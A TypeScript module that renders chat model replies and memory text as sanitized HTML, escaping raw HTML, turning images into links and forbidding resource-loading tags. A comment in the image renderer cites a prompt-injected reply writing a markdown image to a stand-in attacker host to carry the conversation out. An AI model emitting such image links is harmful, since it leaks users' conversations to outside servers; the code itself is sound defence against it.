import DOMPurify from "dompurify";
import { Marked, type Token, type Tokens } from "marked";

type Highlighter = typeof import("./highlight").default;

let hljs: Highlighter | null = null;
let loading: Promise<void> | null = null;
const waiting = new Set<() => void>();

/** onHighlighterReady calls fn once the highlighter has loaded (for a re-render). */
export function onHighlighterReady(fn: () => void): () => void {
  waiting.add(fn);
  return () => waiting.delete(fn);
}

function loadHighlighter() {
  loading ??= import("./highlight").then((m) => {
    hljs = m.default;
    waiting.forEach((fn) => fn());
  });
}

function escape(s: string): string {
  return s.replace(/[&<>"']/g, (c) => ({ "&": "&amp;", "<": "&lt;", ">": "&gt;", '"': "&quot;", "'": "&#39;" })[c]!);
}

function highlight(code: string, lang: string): string {
  if (!hljs) {
    loadHighlighter();
    return escape(code);
  }
  try {
    if (lang && hljs.getLanguage(lang)) return hljs.highlight(code, { language: lang, ignoreIllegals: true }).value;
    return hljs.highlightAuto(code).value;
  } catch {
    return escape(code);
  }
}

/**
 * imageDestination returns where an image in untrusted text points, when it is a web
 * address the person may choose to open: the normalised URL and its host (punycode for an
 * international name, so a look-alike shows as what it is). Anything else (data:, a
 * relative path, another scheme) gets null.
 */
function imageDestination(href: string): { url: string; host: string } | null {
  let u: URL;
  try {
    u = new URL(href);
  } catch {
    return null;
  }
  if ((u.protocol !== "https:" && u.protocol !== "http:") || !u.host) return null;
  return { url: u.href, host: u.host };
}

// Images inside a link's text: the link says where it goes, so the image shows its alt text
// only (an anchor in an anchor is not valid HTML).
const imagesInLinks = new WeakSet<object>();

function markImagesInLink(tokens: Token[] | undefined) {
  for (const t of tokens ?? []) {
    if (t.type === "image") imagesInLinks.add(t);
    if ("tokens" in t) markImagesInLink(t.tokens);
  }
}

const marked = new Marked({
  gfm: true,
  breaks: false,
  walkTokens(token) {
    if (token.type === "link") markImagesInLink(token.tokens);
  },
  renderer: {
    // An image is never loaded from untrusted text: its address could carry the
    // conversation to whoever serves it (a prompt-injected reply only has to write
    // ![x](https://evil.example/?q=...)). It shows as its alt text and the host it points
    // to, a link the person may choose to open; data: and relative images show as text.
    image(token: Tokens.Image) {
      const alt = escape(token.tokens ? this.parser.parseInline(token.tokens, this.parser.textRenderer) : token.text) || "Image";
      const label = `<span class="md-image-icon" role="img" aria-label="Image"></span><span class="md-image-alt">${alt}</span>`;
      const dest = imageDestination(token.href);
      if (imagesInLinks.has(token)) return `<span class="md-image">${label}</span>`;
      if (!dest) return `<span class="md-image md-image-inert">${label}<span class="md-image-host"> — not shown</span></span>`;
      const title = token.title ? ` title="${escape(token.title)}"` : "";
      return `<a class="md-image" href="${escape(dest.url)}"${title}>${label}<span class="md-image-host"> — ${escape(dest.host)}</span></a>`;
    },
    // Raw HTML in a reply or a memory file is shown as text, as written: never parsed as
    // markup (so it can neither run nor restyle the page, and the browser never even sees
    // an event-handler attribute to refuse).
    html({ text }: Tokens.HTML | Tokens.Tag) {
      return escape(text);
    },
    code({ text, lang }: Tokens.Code) {
      const language = (lang ?? "").trim().split(/\s+/)[0] ?? "";
      return (
        `<div class="code-block"><div class="code-head"><span>${escape(language || "code")}</span>` +
        `<button type="button" class="copy-code" data-copy="">Copy</button></div>` +
        `<pre><code class="hljs">${highlight(text, language)}</code></pre></div>`
      );
    },
  },
});

// Links open in a new tab without giving it a handle on this one.
DOMPurify.addHook("afterSanitizeAttributes", (node) => {
  if (node.tagName === "A") {
    node.setAttribute("target", "_blank");
    node.setAttribute("rel", "noopener noreferrer nofollow");
  }
});

/**
 * renderMarkdown turns model output or memory text into safe HTML (SEC-2): GFM markdown
 * with raw HTML escaped and images shown as links rather than loaded, then DOMPurify as a
 * second line of defence removes anything active that markdown itself can produce
 * (javascript: links, for one) and any element that would fetch something.
 */
export function renderMarkdown(src: string): string {
  const html = marked.parse(src, { async: false }) as string;
  return DOMPurify.sanitize(html, {
    USE_PROFILES: { html: true },
    ADD_ATTR: ["target"],
    // Nothing that loads a resource by itself: images (above) become links, and if any
    // element that fetches ever got through the markdown step it is removed here.
    FORBID_TAGS: ["style", "form", "input", "textarea", "select", "iframe", "object", "embed", "img", "picture", "source", "video", "audio", "track", "link", "meta"],
    FORBID_ATTR: ["style", "src", "srcset", "background", "poster"],
  });
}
